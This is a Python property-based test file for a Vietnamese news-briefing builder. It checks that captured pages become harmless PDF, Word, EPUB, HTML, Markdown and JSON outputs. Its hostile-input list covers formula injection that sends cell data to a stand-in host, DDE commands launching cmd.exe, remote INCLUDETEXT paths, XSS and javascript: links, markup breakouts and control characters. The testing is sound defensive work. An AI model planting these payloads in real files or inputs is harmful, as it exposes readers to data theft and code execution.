"""Whatever captures hold, their briefing opens in every format, and nothing of theirs acts."""

import html
import zipfile
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

import pikepdf
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.harmless_outputs import (
    CONTROLS,
    assert_harmless_account,
    assert_harmless_book,
    assert_harmless_page,
    assert_harmless_pdf,
    assert_harmless_word,
)

from diemtin.pipeline import Order, build
from diemtin.readers.json import read as read_json
from diemtin.workspace import open_workspace

ORDER = Order(
    modified="2024-02-05T07:00:00Z", to=("pdf", "docx", "epub", "html", "md", "json"), jobs=1
)
MANIFEST = 'title = "Tin\\u001b[31m\\u202e"\nagency = "SỞ\\u2066 <b>"\nrecipients = ["\\u200fSở"]'
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"xem")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    '{ INCLUDETEXT "\\\\evil.example\\a" }',
    "<script>alert(1)</script>",
    '"><img src=https://evil.example/a onerror=alert(1)>',
    "]]></w:t><w:instrText>DDE</w:instrText>",
    "]]> --> <!-- ?> <![CDATA[",
    "&leak; &#0; &#xD800; &#x202e; &lt;b&gt;",
    "gian\u202e hàng\u2066 mẫu\u200f",
    "số\x00 liệu\x07 \x1b]0;a\x07\x1b[2J\x9b31m",
    "\udcff\ud800 \ufffe\uffff",
    "[xem](javascript:alert(1)) ![a](https://evil.example/b.png)",
    "<a href='javascript:alert(1)'>xem</a> <b>đậm</para> <font color=red>",
    "%PDF-1.7 (a\\) /JS (app.alert) >> endobj",
    "${a} {{b}} %(c)s {0!r}",
]
PROSE = [
    "Sáng 5/2, huyện Tân Mẫu khai mạc hội chợ biên giới với 120 gian hàng của hai nước.",
    "Hội chợ kéo dài năm ngày, dự kiến đón khoảng 20.000 lượt khách đến tham quan, mua sắm.",
    "Ban tổ chức bố trí lực lượng bảo đảm an ninh, trật tự và an toàn cho người dân đến chợ.",
]
TEXTS = st.sampled_from(HOSTILE) | st.text(max_size=25)
PARAGRAPHS = st.tuples(st.sampled_from(PROSE), TEXTS, st.booleans()).map(
    lambda parts: f"{parts[0]} {parts[1]}" if parts[2] else f"{parts[1]} {parts[0]}"
)


def page(title: str, paragraphs: list[str], *, escaped: bool) -> str:
    """Write a page with a text in every place that a page has, as markup or as text."""
    write = html.escape if escaped else str
    told = html.escape(title, quote=True)
    body = "".join(f"<p>{write(text)}</p>" for text in paragraphs)
    return (
        f'<html><head><meta charset="utf-8"><title>{told}</title><meta property="og:title" '
        f'content="{told}"><meta name="author" content="{told}"></head><body onload="a()"><article>'
        f'<h1>{write(title)}</h1>{body}<figure><img src="https://evil.example/a.png" alt="{told}">'
        f"<figcaption>{told}</figcaption></figure><table><tr><th>{told}<th>Năm<tr><td>{told}<td>1"
        f'</table><a href="{told}">{told}</a></article></body></html>'
    )


PAGES = st.builds(
    lambda title, paragraphs, escaped: ("html", page(title, paragraphs, escaped=escaped)),
    TEXTS,
    st.lists(PARAGRAPHS, min_size=2, max_size=4),
    st.booleans(),
)
LINES = st.lists(TEXTS | PARAGRAPHS, min_size=2, max_size=6).map(
    lambda lines: ("txt", "\n".join(("Huyện Tân Mẫu mở hội chợ biên giới", *lines, PROSE[0])))
)
CAPTURES = st.lists(PAGES | LINES, min_size=1, max_size=3)
ALL_AT_ONCE = [
    ("txt", "\n".join(("Huyện Tân Mẫu mở hội chợ", *HOSTILE, *PROSE))),
    ("html", page(" ".join(HOSTILE), [f"{PROSE[0]} {text}" for text in HOSTILE], escaped=True)),
    ("html", page("Hội chợ", [f"{PROSE[1]} {text}" for text in HOSTILE], escaped=False)),
]


def outputs_of(captures: list[tuple[str, str]]) -> dict[str, bytes]:
    """Build a briefing of captures, and return its outputs by ending."""
    with TemporaryDirectory() as folder:
        for number, (ending, text) in enumerate(captures):
            data = text.encode("utf-8", "surrogatepass")
            (Path(folder) / f"{number}.{ending}").write_bytes(data)
        (Path(folder) / "briefing.toml").write_text(MANIFEST)
        made = build(open_workspace(Path(folder)), ORDER)
    assert not [lost.trace for lost in made.unusable if lost.trace]
    return {name.partition(".")[2]: data for name, data in made.outputs.items()}


def readable(outputs: dict[str, bytes]) -> dict[str, str]:
    """Return all text files of the outputs, those in archives too."""
    texts = {ending: outputs[ending].decode() for ending in ("html", "md", "json", "audit.html")}
    for ending in ("docx", "epub"):
        with zipfile.ZipFile(BytesIO(outputs[ending])) as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels", ".xhtml", ".opf", ".ncx")):
                    texts[name] = archive.read(name).decode()
    return texts


@settings(max_examples=15, deadline=None)
@given(CAPTURES)
@example(ALL_AT_ONCE)
def test_outputs_open_and_nothing_in_them_acts(captures: list[tuple[str, str]]) -> None:
    outputs = outputs_of(captures)
    if not outputs:
        return
    assert_harmless_page(outputs["html"])
    assert_harmless_account(outputs["audit.html"])
    assert_harmless_book(outputs["epub"])
    assert_harmless_word(outputs["docx"])
    with pikepdf.open(BytesIO(outputs["pdf"])) as pdf:
        assert_harmless_pdf(pdf)
    read_json(outputs["json"], "briefing.json")
    for name, text in readable(outputs).items():
        found = CONTROLS.search(text)
        assert not found, (name, text[max(0, found.start() - 40) : found.end() + 40])
